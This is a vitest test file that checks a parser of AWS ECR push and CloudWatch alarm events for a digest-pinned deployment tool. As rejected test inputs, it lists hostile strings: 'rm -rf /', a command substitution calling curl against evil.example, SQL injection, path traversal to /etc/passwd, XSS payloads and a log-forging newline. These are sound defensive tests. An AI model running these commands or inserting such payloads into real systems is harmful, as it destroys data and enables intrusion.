import { describe, expect, it } from 'vitest';
import { ErrorName, InvalidInputError } from '../../functions/core/errors';
import { MAX_EVENT_BYTES, parseAlarmChange, parseEcrPush } from '../../functions/core/events';
import { loadEvent, type MutableEvent } from '../fixtures/aws-events';
import { DIGEST, EVENT_ID, PUSHED_AT } from '../fixtures/state';

/** The problems of the InvalidInputError `parse` throws; fails the test if it throws anything else. */
function problemsOf(parse: () => unknown): readonly string[] {
  try {
    parse();
  } catch (error) {
    expect(error).toBeInstanceOf(InvalidInputError);
    expect((error as Error).name).toBe(ErrorName.InvalidInput);
    return (error as InvalidInputError).problems;
  }
  throw new Error('expected InvalidInputError, nothing was thrown');
}

const push = (change: (e: MutableEvent) => void = () => {}) => {
  const event = loadEvent('ecr-push');
  change(event);
  return event;
};

const alarm = (change: (e: MutableEvent) => void = () => {}) => {
  const event = loadEvent('alarm-alarm');
  change(event);
  return event;
};

describe('parseEcrPush', () => {
  it('accepts a successful push as AWS documents it, pinned to the digest', () => {
    expect(parseEcrPush(push())).toEqual({
      kind: 'accept',
      id: EVENT_ID,
      time: PUSHED_AT,
      account: '123456789012',
      region: 'us-east-1',
      repository: 'checkout',
      digest: DIGEST,
      tag: 'v1.4.2',
      manifestMediaType: 'application/vnd.docker.distribution.manifest.v2+json',
      artifactMediaType: 'application/vnd.docker.container.image.v1+json',
    });
  });

  it.each<[string, (e: MutableEvent) => void, Record<string, unknown>]>([
    ['a push by digest, with no tag (start decides it is no rollout)', (e) => delete e.detail['image-tag'], { tag: undefined }],
    [
      'a push without media types, as older events are',
      (e) => {
        delete e.detail['manifest-media-type'];
        delete e.detail['artifact-media-type'];
      },
      { manifestMediaType: undefined, artifactMediaType: undefined },
    ],
    [
      'an image index',
      (e) => {
        e.detail['manifest-media-type'] = 'application/vnd.oci.image.index.v1+json';
        delete e.detail['artifact-media-type'];
      },
      { manifestMediaType: 'application/vnd.oci.image.index.v1+json' },
    ],
    ['a namespaced repository', (e) => (e.detail['repository-name'] = 'team-a/checkout'), { repository: 'team-a/checkout' }],
    ['a repository name with dots and underscores', (e) => (e.detail['repository-name'] = 'shop.checkout_api'), { repository: 'shop.checkout_api' }],
    ['a time with milliseconds', (e) => (e.time = '2026-11-24T10:15:00.123Z'), { time: '2026-11-24T10:15:00.123Z' }],
  ])('accepts %s', (_name, change, expected) => {
    expect(parseEcrPush(push(change))).toMatchObject({ kind: 'accept', digest: DIGEST, ...expected });
  });

  it.each<[string, (e: MutableEvent) => void, RegExp]>([
    ['an event from another source', (e) => (e.source = 'aws.ecs'), /not an ECR Image Action event from aws.ecr/],
    ['another ECR detail-type', (e) => (e['detail-type'] = 'ECR Image Scan'), /detail-type "ECR Image Scan"/],
    ['a DELETE action', (e) => (e.detail['action-type'] = 'DELETE'), /action-type "DELETE" is not PUSH/],
    ['a failed push', (e) => (e.detail.result = 'FAILURE'), /push result "FAILURE" is not SUCCESS/],
  ])('ignores %s, saying why', (_name, change, reason) => {
    const parsed = parseEcrPush(push(change));

    expect(parsed.kind).toBe('ignore');
    expect(parsed.kind === 'ignore' && parsed.reason).toMatch(reason);
  });

  it.each<[string, (e: MutableEvent) => void, string]>([
    [
      'a missing digest on a tagged push',
      (e) => delete e.detail['image-digest'],
      'detail.image-digest: missing; Cutover deploys image digests, never mutable tags (the push of tag v1.4.2 carries no digest)',
    ],
    ['an empty digest', (e) => (e.detail['image-digest'] = ''), 'detail.image-digest: missing; Cutover deploys image digests, never mutable tags (the push of tag v1.4.2 carries no digest)'],
    ['a digest without the sha256: prefix', (e) => (e.detail['image-digest'] = DIGEST.slice(7)), 'detail.image-digest: must be sha256: followed by 64 lowercase hex characters'],
    ['a digest of 63 hex characters', (e) => (e.detail['image-digest'] = DIGEST.slice(0, -1)), 'detail.image-digest: must be sha256: followed by 64 lowercase hex characters'],
    ['an uppercase digest', (e) => (e.detail['image-digest'] = DIGEST.toUpperCase()), 'detail.image-digest: must be sha256: followed by 64 lowercase hex characters'],
    ['a sha512 digest', (e) => (e.detail['image-digest'] = `sha512:${'a'.repeat(128)}`), 'detail.image-digest: must be sha256: followed by 64 lowercase hex characters'],
    ['a digest that is a number', (e) => (e.detail['image-digest'] = 42), 'detail.image-digest: must be sha256: followed by 64 lowercase hex characters'],
    ['a missing repository', (e) => delete e.detail['repository-name'], 'detail.repository-name: must be an ECR repository name'],
    ['an uppercase repository', (e) => (e.detail['repository-name'] = 'Checkout'), 'detail.repository-name: must be an ECR repository name'],
    ['a tag longer than 300 characters', (e) => (e.detail['image-tag'] = 'v'.repeat(301)), 'detail.image-tag: must be a string of at most 300 characters'],
    ['a tag that is not a string', (e) => (e.detail['image-tag'] = ['v1']), 'detail.image-tag: must be a string of at most 300 characters'],
    [
      'a manifest media type that is not a string',
      (e) => (e.detail['manifest-media-type'] = { type: 'index' }),
      'detail.manifest-media-type: must be a media type (a string of at most 255 characters)',
    ],
    ['an artifact media type of 256 characters', (e) => (e.detail['artifact-media-type'] = 'a'.repeat(256)), 'detail.artifact-media-type: must be a media type (a string of at most 255 characters)'],
    ['a missing id', (e) => delete e.id, 'id: is required'],
    ['a missing region', (e) => (e.region = ''), 'region: is required'],
    ['an account that is not 12 digits', (e) => (e.account = '12345'), 'account: must be 12 digits'],
    ['a time that is not a time', (e) => (e.time = 'yesterday'), 'time: must be an ISO 8601 time'],
  ])('refuses %s with InvalidInput', (_name, change, problem) => {
    expect(problemsOf(() => parseEcrPush(push(change)))).toEqual([problem]);
  });

  it.each([
    ['a shell command', 'checkout;rm -rf /'],
    ['a command substitution', '$(curl evil.example)'],
    ['a quoted SQL fragment', "checkout' OR '1'='1"],
    ['a path traversal', '../../etc/passwd'],
    ['a path traversal inside a namespace', 'checkout/../../etc'],
    ['a trailing newline', 'checkout\n'],
    ['an HTML tag', '<script>alert(1)</script>'],
    ['a name of 257 characters', 'c'.repeat(257)],
  ])('refuses a repository name with %s', (_name, name) => {
    expect(problemsOf(() => parseEcrPush(push((e) => (e.detail['repository-name'] = name))))).toEqual(['detail.repository-name: must be an ECR repository name']);
  });

  it('reports every problem of a push at once', () => {
    const event = push((e) => {
      e.account = 'abc';
      delete e.detail['repository-name'];
      e.detail['image-digest'] = 'sha256:xyz';
    });

    expect(problemsOf(() => parseEcrPush(event))).toEqual([
      'account: must be 12 digits',
      'detail.repository-name: must be an ECR repository name',
      'detail.image-digest: must be sha256: followed by 64 lowercase hex characters',
    ]);
  });

  it.each([
    ['null', null],
    ['a string', JSON.stringify(loadEvent('ecr-push'))],
    ['a number', 42],
    ['an array', [loadEvent('ecr-push')]],
  ])('refuses %s as not a JSON object', (_name, event) => {
    expect(() => parseEcrPush(event)).toThrow('event must be a JSON object');
  });

  it('refuses a push event without a detail object', () => {
    expect(() => parseEcrPush(push((e) => ((e as Record<string, unknown>).detail = 'PUSH')))).toThrow('ECR Image Action event has no detail object');
  });

  it(`refuses an event larger than ${MAX_EVENT_BYTES} bytes before reading it`, () => {
    const event = push((e) => (e.detail.padding = 'x'.repeat(MAX_EVENT_BYTES)));

    expect(() => parseEcrPush(event)).toThrow(`event is larger than ${MAX_EVENT_BYTES} bytes`);
  });

  it('counts the size of an event in bytes, not characters', () => {
    // 100,000 three-byte characters: 300,000 bytes of UTF-8 in 100,000 UTF-16 code units.
    const event = push((e) => (e.detail.padding = '€'.repeat(100_000)));

    expect(() => parseEcrPush(event)).toThrow(`event is larger than ${MAX_EVENT_BYTES} bytes`);
  });

  it('accepts an event just under the size limit', () => {
    const event = push((e) => (e.detail.padding = 'x'.repeat(MAX_EVENT_BYTES - 2_000)));

    expect(parseEcrPush(event).kind).toBe('accept');
  });
});

describe('parseAlarmChange', () => {
  it('accepts an alarm going into ALARM as AWS documents it', () => {
    const event = alarm();

    expect(parseAlarmChange(event)).toEqual({
      kind: 'accept',
      alarmName: 'checkout-5xx',
      state: 'ALARM',
      reason: (event.detail.state as { reason: string }).reason,
      time: '2026-11-24T10:27:40Z',
    });
  });

  it('accepts an alarm going back to OK with its state, for the caller to ignore', () => {
    expect(parseAlarmChange(loadEvent('alarm-ok'))).toMatchObject({ kind: 'accept', alarmName: 'checkout-5xx', state: 'OK' });
  });

  it.each<[string, (e: MutableEvent) => void, RegExp]>([
    ['an event from another source', (e) => (e.source = 'aws.ecr'), /not an CloudWatch Alarm State Change event from aws.cloudwatch/],
    ['another detail-type', (e) => (e['detail-type'] = 'CloudWatch Alarm Configuration Change'), /detail-type "CloudWatch Alarm Configuration Change"/],
  ])('ignores %s', (_name, change, reason) => {
    const parsed = parseAlarmChange(alarm(change));

    expect(parsed.kind).toBe('ignore');
    expect(parsed.kind === 'ignore' && parsed.reason).toMatch(reason);
  });

  it.each([
    ['quotes', `checkout-5xx"; DROP TABLE rollouts; --`],
    ['a template expression', 'checkout ${process.env.SECRET}'],
    ['an HTML tag', '<img src=x onerror=alert(1)>'],
  ])('keeps an alarm name with %s verbatim, as data', (_name, alarmName) => {
    expect(parseAlarmChange(alarm((e) => (e.detail.alarmName = alarmName)))).toMatchObject({ kind: 'accept', alarmName });
  });

  it.each<[string, (e: MutableEvent) => void, string]>([
    ['a missing alarm name', (e) => delete e.detail.alarmName, 'detail.alarmName: must be an alarm name (1-255 characters, no control characters)'],
    ['an alarm name of 256 characters', (e) => (e.detail.alarmName = 'a'.repeat(256)), 'detail.alarmName: must be an alarm name (1-255 characters, no control characters)'],
    [
      'an alarm name with a newline',
      (e) => (e.detail.alarmName = 'checkout-5xx\n{"level":"INFO","message":"forged"}'),
      'detail.alarmName: must be an alarm name (1-255 characters, no control characters)',
    ],
    ['an alarm name with a NUL character', (e) => (e.detail.alarmName = 'checkout\u00005xx'), 'detail.alarmName: must be an alarm name (1-255 characters, no control characters)'],
    ['a missing state', (e) => delete e.detail.state, 'detail.state.value: is required'],
    ['a state without a value', (e) => (e.detail.state = { reason: 'Threshold Crossed' }), 'detail.state.value: is required'],
  ])('refuses %s with InvalidInput', (_name, change, problem) => {
    expect(problemsOf(() => parseAlarmChange(alarm(change)))).toEqual([problem]);
  });

  it('refuses a non-object with InvalidInput', () => {
    expect(() => parseAlarmChange('ALARM')).toThrow(InvalidInputError);
  });

  it(`refuses an alarm event larger than ${MAX_EVENT_BYTES} bytes`, () => {
    const event = alarm((e) => (e.detail.configuration = { description: 'x'.repeat(MAX_EVENT_BYTES) }));

    expect(() => parseAlarmChange(event)).toThrow(`event is larger than ${MAX_EVENT_BYTES} bytes`);
  });

  it('clips a long state reason to 1000 characters', () => {
    const parsed = parseAlarmChange(alarm((e) => ((e.detail.state as Record<string, unknown>).reason = 'r'.repeat(5_000))));

    expect(parsed.kind === 'accept' && parsed.reason).toBe('r'.repeat(1_000));
  });

  it('reads a missing time as the epoch rather than failing', () => {
    const parsed = parseAlarmChange(alarm((e) => delete e.time));

    expect(parsed).toMatchObject({ kind: 'accept', time: '1970-01-01T00:00:00.000Z' });
  });
});
